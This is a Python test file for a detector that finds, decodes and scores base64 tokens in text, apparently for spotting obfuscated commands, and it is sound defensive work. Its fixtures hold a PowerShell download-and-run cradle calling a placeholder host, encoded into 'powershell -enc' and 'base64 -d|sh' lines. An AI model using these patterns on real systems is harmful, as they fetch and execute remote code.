"""Base64 is found and read as the standard library reads it."""

import base64

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from phantom_ml.features.cells.base64 import base64_tokens, decoded, readable_shares

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')"


def code(text: str, charset: str) -> str:
    return base64.b64encode(text.encode(charset)).decode()


WIDE, NARROW = code(SCRIPT, "utf-16-le"), code(SCRIPT, "ascii")


@pytest.mark.parametrize(
    "text",
    [
        f"powershell -enc {WIDE}",
        f"echo '{NARROW}'|base64 -d|sh",
        f'x="{NARROW}";',
        f"/opt/tools/with/a/very/long/path/in/front/of/it/all -c {NARROW}",
    ],
)
def test_the_token_is_found_inside_a_line(text):
    assert base64_tokens(pl.Series([text])).item() in {WIDE, NARROW}


@pytest.mark.parametrize(
    "text",
    [
        "",
        "/usr/lib/python3/dist-packages/setuptools/command/build/Py310",
        "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
        "D41D8CD98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
        "0000000000000000000000000000000000000000000000000000000000000000",
        "this_is_a_long_name_with_underscores_and_many_words_in_it_2024",
        "thisisaverylongnameofsmalllettersalonethatnobodywouldreadasbase64",
        code("short", "ascii"),
    ],
)
def test_what_only_resembles_base64_is_left_alone(text):
    assert base64_tokens(pl.Series([text])).item() is None


def test_the_longest_token_of_a_cell_is_taken():
    text = f"{NARROW} {WIDE} {NARROW}"
    assert base64_tokens(pl.Series([text, None, NARROW])).to_list() == [WIDE, None, NARROW]


def test_a_token_does_not_reach_into_the_next_cell():
    assert base64_tokens(pl.Series([NARROW[:30], NARROW[30:60]])).to_list() == [None, None]


@given(st.lists(st.binary(max_size=200), min_size=1, max_size=5))
def test_whole_groups_are_decoded_as_by_the_standard_library(blobs):
    tokens = [base64.b64encode(blob).decode() for blob in blobs]
    cells = decoded(pl.Series(tokens, dtype=pl.String))
    found = [
        cells.data[a:b].tobytes()
        for a, b in zip(cells.offsets[:-1], cells.offsets[1:], strict=True)
    ]
    # The last group counts where no sign of it is padding.
    assert found == [blob[: len(blob) // 3 * 3] for blob in blobs]


def test_only_the_beginning_of_a_token_is_decoded():
    assert decoded(pl.Series(["QUFB" * 10_000])).sizes.tolist() == [6144]


def test_a_powershell_script_is_readable_as_utf16():
    utf16, ascii_ = readable_shares(pl.Series([WIDE]))
    assert utf16[0] == 1.0
    assert ascii_[0] == pytest.approx(0.5, abs=0.01)


def test_plain_text_is_readable_as_ascii_alone():
    utf16, ascii_ = readable_shares(pl.Series([NARROW]))
    assert (utf16[0], ascii_[0]) == (0.0, 1.0)


def test_random_bytes_are_hardly_readable():
    token = base64.b64encode(bytes(range(256))).decode()
    utf16, ascii_ = readable_shares(pl.Series([token]))
    assert utf16[0] == 0.0
    assert ascii_[0] == pytest.approx((95 + 3) / 255, abs=0.01)


def test_shares_do_not_depend_on_the_neighbours():
    alone = readable_shares(pl.Series(["aQBk"]))
    among = readable_shares(pl.Series(["QUFB", "aQBk", "AAAA", None, ""]))
    assert (among[0][1], among[1][1]) == (alone[0][0], alone[1][0])


def test_no_token_gives_no_share():
    utf16, ascii_ = readable_shares(pl.Series([None], dtype=pl.String))
    assert (utf16[0], ascii_[0]) == (0.0, 0.0)
